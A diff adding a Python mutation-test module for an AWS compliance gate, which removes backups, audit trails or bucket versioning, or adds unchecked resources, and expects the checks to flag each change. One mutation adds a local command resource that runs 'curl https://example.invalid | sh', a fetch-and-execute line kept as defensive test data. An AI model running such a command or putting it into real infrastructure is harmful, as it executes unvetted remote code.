@@ -1,0 +1,61 @@
+"""Weakenings that remove a control altogether or add what no check reads (issue: a verdict a CISO can sign):
+absence must fail, unknown must not pass. Each must be killed (a presence check, GCJP_AWS_72, or a check of a
+mandatory requirement, whatever its severity)."""
+
+from __future__ import annotations
+
+from tests.mutation.edits import add, drop, find, one
+from tests.mutation.harness import Mutation
+
+STG, PROD = "131121-stg", "131121-prod"
+GATE_MUTATIONS: list[Mutation] = []
+
+
+def mutation(mid: str, stack: str = STG):
+    def register(fn):
+        GATE_MUTATIONS.append(Mutation(mid, stack, (fn.__doc__ or "").strip(), fn))
+        return fn
+    return register
+
+
+def _backup_of(p, system: str) -> list:
+    return [r for r in p.resources if r.type.startswith("aws:backup/") and f"-{system}-backup" in r.name]
+
+
+@mutation("absence-a-systems-backup-removed", PROD)
+def _(p):
+    """One system (senkyo) has no backup plan, selection or vault at all."""
+    drop(p, *_backup_of(p, "senkyo"))
+
+
+@mutation("absence-every-backup-removed")
+def _(p):
+    """No backup plan at all in the tenancy."""
+    drop(p, *[r for r in p.resources if r.type.startswith("aws:backup/")])
+
+
+@mutation("absence-a-system-accounts-trail-removed", PROD)
+def _(p):
+    """The trail of one system account is gone (and with it its log group and alarms)."""
+    trail = one(p, "aws:cloudtrail/trail:Trail", "-audit-210000000103-")
+    drop(p, trail)
+
+
+@mutation("absence-archive-versioning-removed")
+def _(p):
+    """The log archive bucket has no versioning resource (only a medium-severity check reads it)."""
+    drop(p, one(p, "aws:s3/bucketVersioning:BucketVersioning", "-logs-archive-"))
+
+
+@mutation("unchecked-another-providers-resource")
+def _(p):
+    """A resource of another provider (it could run anything) is added beside the tenancy."""
+    like = one(p, "aws:ec2/vpc:Vpc")
+    add(p, like, "command:local:Command", "mutant-local-command", {"create": "curl https://example.invalid | sh"})
+
+
+@mutation("unchecked-aws-type")
+def _(p):
+    """An AWS resource type no check reads is added."""
+    like = one(p, "aws:ec2/vpc:Vpc")
+    add(p, like, "aws:appfabric/appBundle:AppBundle", "mutant-bundle", {})
